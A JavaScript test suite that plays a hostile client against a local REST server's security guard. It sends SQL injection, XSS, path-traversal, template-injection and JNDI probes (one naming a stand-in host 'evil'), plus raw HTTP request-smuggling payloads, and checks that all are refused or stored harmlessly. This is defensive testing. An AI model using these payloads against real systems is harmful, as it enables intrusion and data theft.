// A hostile client against examples/shop.spec with the guard on: injection
// strings in every field type and in every filter, oversized and deeply
// nested bodies, invalid UTF-8, smuggling attempts. Every answer is a 2xx
// or a 4xx in PostgREST's shape, never a 5xx or a crash; what is stored is
// stored verbatim; nothing is written by a rejected request; the guard
// records what it saw and the audit chain still verifies.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { connect } from 'node:net';
import { join } from 'node:path';
import { startServer, bin, root } from './helpers.mjs';

const shop = join(root, 'examples', 'shop.spec');
let server, service;

const PROBES = [
  "' OR 1=1--",
  "1; DROP TABLE product;--",
  '") OR ("a"="a',
  "' UNION SELECT password FROM user--",
  "1' AND sleep(5)--",
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'javascript:alert(document.cookie)',
  '../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '{{7*7}}',
  '${jndi:ldap://evil/a}',
  '#{7*7}',
  '%27%20or%201%3D1',
  'a\u0000b',
  '\u202e\u0301😀\uffff',
  '*',
  '(,)',
  'null',
];

before(async () => {
  server = await startServer(shop, { env: { SPECBASE_GUARD: 'on', SPECBASE_RATE_LIMIT: '100000/200000' } });
  const keys = spawnSync(bin, ['keys', shop, '--db', server.db], { encoding: 'utf8' });
  service = keys.stdout.match(/^service\s+(\S+)/m)[1];
});
after(async () => { await server.stop(); });

async function call(method, path, body, headers = {}) {
  const res = await fetch(`${server.rest}${path}`, {
    method,
    headers: { Authorization: `Bearer ${service}`, 'Content-Type': 'application/json', ...headers },
    body,
  });
  const text = await res.text();
  assert.ok(res.status < 500, `${method} ${path} answered ${res.status}: ${text}`);
  let json;
  if (res.status >= 400) {
    json = JSON.parse(text);
    assert.equal(typeof json.code, 'string', text);
    assert.equal(typeof json.message, 'string', text);
  } else if (text) {
    json = JSON.parse(text);
  }
  return { status: res.status, json, text };
}

function rowCount() {
  const r = spawnSync('sqlite3', [server.db, 'SELECT count(*) FROM product'], { encoding: 'utf8' });
  assert.equal(r.status, 0, r.stderr);
  return Number(r.stdout.trim());
}

test('probes in every field are stored verbatim or refused, never executed', async () => {
  const base = { name: 'Pen', price: 2, category: 'office', description: 'A pen', stock: 1, tags: ['a'] };
  let stored = 0;
  for (const probe of PROBES) {
    for (const field of Object.keys(base)) {
      const row = { ...base, [field]: field === 'tags' ? [probe.slice(0, 30)] : probe };
      const r = await call('POST', '/product', JSON.stringify(row), { Prefer: 'return=representation' });
      if (field === 'price' || field === 'stock') {
        assert.equal(r.status, 400, `${field}=${probe} must be refused`);
        continue;
      }
      if (r.status === 400) {
        assert.ok(probe.includes('\u0000'), `${field}=${JSON.stringify(probe)} refused: ${r.text}`);
        continue;
      }
      assert.equal(r.status, 201, r.text);
      stored++;
      assert.deepEqual(r.json[0][field], row[field], 'stored as sent');
      // and found again by an exact filter on the stored text
      if (field === 'name' || field === 'category') {
        const q = await call('GET', `/product?select=id&${field}=eq.${encodeURIComponent(probe)}&id=eq.${r.json[0].id}`);
        assert.equal(q.json.length, 1, `${field}=eq.${probe}`);
      }
    }
  }
  assert.equal(rowCount(), stored, 'every 201 is one row, every 400 none');
  // the tables are all still there
  const check = spawnSync('sqlite3', [server.db, "SELECT count(*) FROM sqlite_master WHERE type = 'table' AND name IN ('product', 'user', 'order')"], { encoding: 'utf8' });
  assert.equal(check.stdout.trim(), '3');
});

test('probes in filters, select, order and ranges are values or 400s', async () => {
  const before = rowCount();
  const ops = ['eq', 'neq', 'gt', 'lt', 'like', 'ilike', 'is', 'in', 'fts', 'cs', 'ov'];
  for (const probe of PROBES) {
    const p = encodeURIComponent(probe);
    for (const column of ['name', 'price', 'stock', 'tags', 'description', 'id']) {
      for (const op of ops) {
        const value = op === 'in' ? `(${p})` : op === 'cs' || op === 'ov' ? `{${p}}` : p;
        const r = await call('GET', `/product?${column}=${op}.${value}`);
        assert.ok(r.status === 200 || r.status === 400, `${column}=${op}.${probe}: ${r.status}`);
      }
    }
    for (const path of [`/product?select=${p}`, `/product?order=${p}`, `/product?limit=${p}`,
      `/product?or=(${p})`, `/product?select=name,order(${p})`, `/${p}x`]) {
      const r = await call('GET', path);
      assert.ok([200, 400, 404].includes(r.status), `${path}: ${r.status}`);
    }
    const patched = await call('PATCH', `/product?name=eq.${p}x`, JSON.stringify({ stock: 2 }));
    assert.ok([200, 204, 400].includes(patched.status), patched.text);
    const deleted = await call('DELETE', `/product?name=eq.${p}x&id=lt.0`);
    assert.ok([200, 204, 400].includes(deleted.status), deleted.text);
  }
  const range = await call('GET', '/product', undefined, { Range: "0-' or 1=1" });
  assert.ok(range.status === 200 || range.status === 416 || range.status === 400, String(range.status));
  assert.equal(rowCount(), before, 'reads and no-match writes change nothing');
});

test('broken, oversized and nested bodies are refused and write nothing', async () => {
  const before = rowCount();
  const nested = '['.repeat(100) + ']'.repeat(100);
  const cases = [
    ['not JSON', '{"name": "Pen",', 400],
    ['trailing garbage', '{"name":"Pen","price":1,"category":"x"} x', 400],
    ['duplicate keys', '{"name":"Pen","name":"Ink","price":1,"category":"x"}', 400],
    ['deep nesting', `{"name":"Pen","price":1,"category":"x","tags":${nested}}`, 400],
    ['unknown column', '{"name":"Pen","price":1,"category":"x","is_admin":true}', 400],
    ['id on create', '{"id":-1,"name":"Pen","price":1,"category":"x","created_at":"1970-01-01"}', 400],
    ['number overflow', '{"name":"Pen","price":1e400,"category":"x"}', 400],
    ['too many rows', JSON.stringify(Array.from({ length: 1001 }, () => ({ name: 'P', price: 1, category: 'x' }))), 413],
    ['one bad row among good ones', JSON.stringify([{ name: 'P', price: 1, category: 'x' }, { name: 'Q', price: -1, category: 'x' }]), 400],
  ];
  for (const [what, body, status] of cases) {
    const r = await call('POST', '/product', body);
    assert.equal(r.status, status, `${what}: ${r.text}`);
  }
  // invalid UTF-8 in a string
  const bad = Buffer.concat([Buffer.from('{"name":"P'), Buffer.from([0xc3, 0x28, 0xff]), Buffer.from('","price":1,"category":"x"}')]);
  let res = await fetch(`${server.rest}/product`, {
    method: 'POST', headers: { Authorization: `Bearer ${service}`, 'Content-Type': 'application/json' }, body: bad,
  });
  assert.equal(res.status, 400, await res.text());
  // a body over the limit (1 MiB)
  res = await fetch(`${server.rest}/product`, {
    method: 'POST', headers: { Authorization: `Bearer ${service}`, 'Content-Type': 'application/json' },
    body: JSON.stringify({ name: 'P', price: 1, category: 'x', description: 'x'.repeat(2 << 20) }),
  });
  assert.equal(res.status, 413);
  await res.arrayBuffer();
  assert.equal(rowCount(), before, 'nothing was written');
});

// One raw exchange: what the server answers to bytes a client library
// would never send.
function raw(bytes) {
  const url = new URL(server.url);
  return new Promise((resolve, reject) => {
    const socket = connect(Number(url.port), url.hostname);
    let data = '';
    socket.setTimeout(5000, () => { socket.destroy(); resolve(data); });
    socket.on('data', (d) => { data += d; });
    socket.on('end', () => resolve(data));
    socket.on('error', (e) => (data ? resolve(data) : reject(e)));
    socket.write(bytes);
    socket.end();
  });
}

test('smuggling attempts get one 4xx answer and no second request', async () => {
  const before = rowCount();
  const body = '{"name":"Smuggled","price":1,"category":"x"}';
  const smuggled = `POST /rest/v1/product HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${service}\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
  const attempts = [
    // Content-Length and Transfer-Encoding together
    `POST /rest/v1/product HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${smuggled}`,
    // two different Content-Lengths
    `POST /rest/v1/product HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\nContent-Length: ${smuggled.length}\r\n\r\n${smuggled}`,
    // a bare LF inside a header value, a header name with a space
    `GET /rest/v1/product HTTP/1.1\r\nHost: x\r\nX-A: a\nContent-Length: ${smuggled.length}\r\n\r\n${smuggled}`,
    `GET /rest/v1/product HTTP/1.1\r\nHost: x\r\nContent Length: 5\r\n\r\n`,
  ];
  for (const attempt of attempts) {
    const answer = await raw(attempt);
    const statuses = [...answer.matchAll(/^HTTP\/1\.1 (\d{3})/gm)].map((m) => Number(m[1]));
    assert.ok(statuses.length >= 1, `no answer to ${JSON.stringify(attempt.slice(0, 60))}`);
    assert.ok(statuses.every((s) => s < 500), `answers ${statuses} to ${JSON.stringify(attempt.slice(0, 60))}`);
    assert.ok(!statuses.includes(201), `the smuggled request ran: ${statuses}`);
  }
  assert.equal(rowCount(), before, 'no smuggled request was executed');
});

test('the guard recorded the attacks and the audit chain verifies', async () => {
  const r = await fetch(`${server.url}/_/threats`, { headers: { Authorization: `Bearer ${service}` } });
  assert.equal(r.status, 200);
  const threats = await r.json();
  assert.ok(threats.counts.injection_probe >= PROBES.length, JSON.stringify(threats.counts));
  assert.ok(threats.counts.oversized >= 1, JSON.stringify(threats.counts));
  const v = spawnSync(bin, ['audit', 'verify', '--db', server.db], { encoding: 'utf8' });
  assert.equal(v.status, 0, v.stdout + v.stderr);
});
